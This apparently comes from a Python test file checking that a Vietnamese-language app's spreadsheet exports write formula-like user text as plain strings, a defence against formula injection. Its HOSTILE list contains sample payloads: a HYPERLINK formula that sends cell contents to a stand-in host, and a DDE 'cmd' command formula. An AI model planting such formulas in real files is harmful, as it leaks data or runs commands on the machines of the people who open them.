"""Exports cannot carry formulas: text a person typed that starts with "=", "+", "-" or "@" is
written as text, so opening the file runs nothing (formula injection)."""

import zipfile

from openpyxl import load_workbook

from hocbac.core.exports import write_workbook

HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"Bấm")', "+1+1", "-2+3", "@SUM(A1:A2)", "=cmd|' /C calc'!A0"]


def test_text_that_looks_like_a_formula_is_written_as_text():
    stream = write_workbook([("Danh sách", ["Họ và tên", "Ghi chú"], [["Nguyễn Văn A", text] for text in HOSTILE])])
    with zipfile.ZipFile(stream) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    stream.seek(0)
    cells = [row[1] for row in load_workbook(stream).active.iter_rows(min_row=2)]
    assert [(cell.value, cell.data_type) for cell in cells] == [(text, "s") for text in HOSTILE]
